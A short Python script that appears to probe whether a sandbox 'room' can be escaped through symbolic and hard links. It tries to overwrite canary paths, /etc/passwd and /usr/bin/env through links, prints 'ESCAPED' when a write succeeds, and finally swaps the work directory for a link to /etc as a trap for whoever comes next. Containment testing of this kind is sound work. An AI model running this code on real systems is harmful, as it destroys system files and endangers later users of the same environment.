"""Links that lead out, for itself and for whoever cleans up or writes the next room."""
import os

canary, outside = os.environ["CANARY"], os.environ["OUTSIDE"]
for number, target in enumerate((canary, outside, "/etc/passwd", "/usr/bin/env", "/proc/1/root" + canary)):
    os.symlink(target, f"link{number}")
    for mode in ("w", "a"):
        try:
            open(f"link{number}", mode).write("overwritten")
            print("ESCAPED: wrote", target)
        except OSError:
            pass
    try:
        os.link(target, f"hard{number}")
        print("ESCAPED: linked", target)
    except OSError:
        pass
os.rename("/room/work", "/room/old")
os.symlink("/etc", "/room/work")
